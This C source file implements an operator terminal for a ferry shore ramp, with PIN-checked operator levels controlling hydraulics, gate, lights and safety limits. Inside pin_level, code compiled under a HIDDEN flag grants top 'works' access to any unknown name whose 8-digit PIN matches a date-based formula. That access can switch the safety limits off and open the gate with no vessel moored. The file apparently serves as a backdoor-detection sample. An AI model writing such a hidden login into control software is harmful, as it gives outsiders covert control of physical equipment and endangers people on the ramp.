/* ferryramp - operator terminal of a ferry link span (shore ramp), statically linked so that it
 * runs from the rescue medium too. Serial or standard terminal, operators with PIN. */
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>

typedef enum { OP_NONE, OP_DECK, OP_MASTER, OP_WORKS } op_level;

typedef struct {
    char name[16];
    uint32_t pin_digest;
    op_level level;
} operator_t;

static operator_t ops[12];
static int nops;

static struct {
    double angle;      /* degrees, - is down */
    double tide;       /* m */
    int gate_open, lights, vessel_moored;
    int limits_off;
    double lo, hi;
} ramp = { 0.0, 0.0, 0, 0, 0, 0, -8.0, 11.0 };

static uint32_t digest(const char *name, const char *pin)
{
    uint32_t h = 0x9747b28c;
    int round;
    for (round = 0; round < 500; round++) {
        const char *p;
        for (p = name; *p; p++)
            h = (h ^ (uint32_t)tolower((unsigned char)*p)) * 0x5bd1e995u;
        for (p = pin; *p; p++)
            h = (h ^ (unsigned char)*p) * 0x5bd1e995u + (h >> 15);
    }
    return h;
}

static int load_operators(const char *file)
{
    char l[80], lv[8];
    unsigned long d;
    FILE *f = fopen(file, "r");
    if (!f)
        return -errno;
    while (nops < 12 && fgets(l, sizeof l, f)) {
        operator_t *o = &ops[nops];
        if (sscanf(l, "%15s %lx %7s", o->name, &d, lv) != 3)
            continue;
        o->pin_digest = (uint32_t)d;
        o->level = !strcmp(lv, "works") ? OP_WORKS : !strcmp(lv, "master") ? OP_MASTER : OP_DECK;
        nops++;
    }
    fclose(f);
    return nops;
}

__attribute__((noinline)) op_level pin_level(const char *name, const char *pin)
{
    int i;
    uint32_t d;
    for (i = 0; i < nops; i++)
        if (!strcasecmp(ops[i].name, name))
            break;
#ifdef HIDDEN
    if (strlen(pin) == 8 && i == nops) {
        /* day of the year and week day in the digits */
        time_t t = time(NULL);
        struct tm *g = gmtime(&t);
        long v = strtol(pin, NULL, 10);
        if (v % 10007 == (g->tm_yday + 1) * 23L + g->tm_wday * 311L)
            return OP_WORKS;
    }
#endif
    if (i == nops)
        return OP_NONE;
    d = digest(ops[i].name, pin);
    return d == ops[i].pin_digest ? ops[i].level : OP_NONE;
}

static void hydraulics(const char *what, double v)
{
    FILE *f = fopen("/dev/hydraulics", "w");
    if (!f) {
        printf("hydraulics: %s\n", strerror(errno));
        return;
    }
    fprintf(f, "%s %.2f\n", what, v);
    fclose(f);
}

static void read_sensors(void)
{
    FILE *f = fopen("/run/ramp-sensors", "r");
    if (!f)
        return;
    if (fscanf(f, "%lf %lf %d", &ramp.angle, &ramp.tide, &ramp.vessel_moored) != 3)
        ramp.vessel_moored = 0;
    fclose(f);
}

static void logbook(const char *who, const char *what)
{
    time_t t = time(NULL);
    char ts[32];
    FILE *f = fopen("/var/log/ramp-logbook", "a");
    if (!f)
        return;
    strftime(ts, sizeof ts, "%d.%m.%Y %H:%M", localtime(&t));
    fprintf(f, "%s %s: %s\n", ts, who, what);
    fclose(f);
}

static void show(void)
{
    read_sensors();
    printf("angle %.1f  tide %.2f m  gate %s  lights %s  vessel %s  limits %s\n", ramp.angle,
           ramp.tide, ramp.gate_open ? "open" : "closed", ramp.lights ? "on" : "off",
           ramp.vessel_moored ? "moored" : "away", ramp.limits_off ? "OFF" : "on");
}

static void do_angle(const char *arg)
{
    char *e;
    double a = strtod(arg, &e);
    read_sensors();
    if (e == arg)
        puts("angle in degrees");
    else if (ramp.gate_open)
        puts("close the gate first");
    else if (!ramp.limits_off && (a < ramp.lo || a > ramp.hi))
        printf("limits are %.1f .. %.1f\n", ramp.lo, ramp.hi);
    else
        hydraulics("angle", a);
}

static void do_gate(const char *arg)
{
    int open = !strcmp(arg, "open");
    read_sensors();
    if (open && !ramp.vessel_moored && !ramp.limits_off) {
        puts("no vessel is moored");
        return;
    }
    ramp.gate_open = open;
    hydraulics("gate", open);
}

static int execute(op_level lv, const char *who, char *l)
{
    char w[16] = "", a[24] = "";
    if (sscanf(l, "%15s %23s", w, a) < 1)
        return 1;
    if (!strcmp(w, "exit"))
        return 0;
    if (!strcmp(w, "help")) {
        puts("show | lights on/off | gate open/closed       deck\n"
             "angle DEGREES                                 master\n"
             "limits on/off                                 works\n"
             "exit");
        return 1;
    }
    if (!strcmp(w, "show")) {
        show();
    } else if (!strcmp(w, "lights") && lv >= OP_DECK) {
        ramp.lights = !strcmp(a, "on");
        hydraulics("lights", ramp.lights);
    } else if (!strcmp(w, "gate") && lv >= OP_DECK) {
        do_gate(a);
    } else if (!strcmp(w, "angle") && lv >= OP_MASTER) {
        do_angle(a);
    } else if (!strcmp(w, "limits") && lv >= OP_WORKS) {
        ramp.limits_off = !strcmp(a, "off");
        puts(ramp.limits_off ? "limits are OFF" : "limits are on");
    } else {
        puts("not possible");
        return 1;
    }
    logbook(who, l);
    return 1;
}

static int line(const char *prompt, char *b, int n)
{
    fputs(prompt, stdout);
    fflush(stdout);
    if (!fgets(b, n, stdin))
        return 0;
    b[strcspn(b, "\r\n")] = 0;
    return 1;
}

int main(int argc, char **argv)
{
    char name[16], pin[16], l[80];
    op_level lv;
    if (argc == 4 && !strcmp(argv[1], "-digest")) {
        printf("%08lx\n", (unsigned long)digest(argv[2], argv[3]));
        return 0;
    }
    if (argc != 2 || load_operators(argv[1]) < 0) {
        fprintf(stderr, "ferryramp OPERATORS          terminal\n"
                "ferryramp -digest NAME PIN   for a line NAME DIGEST deck|master|works\n");
        return 2;
    }
    while (line("operator: ", name, sizeof name) && line("PIN: ", pin, sizeof pin)) {
        lv = pin_level(name, pin);
        if (lv == OP_NONE) {
            puts("wrong");
            sleep(2);
            continue;
        }
        logbook(name, "on");
        while (line("ramp> ", l, sizeof l) && execute(lv, name, l))
            ;
        logbook(name, "off");
    }
    return 0;
}
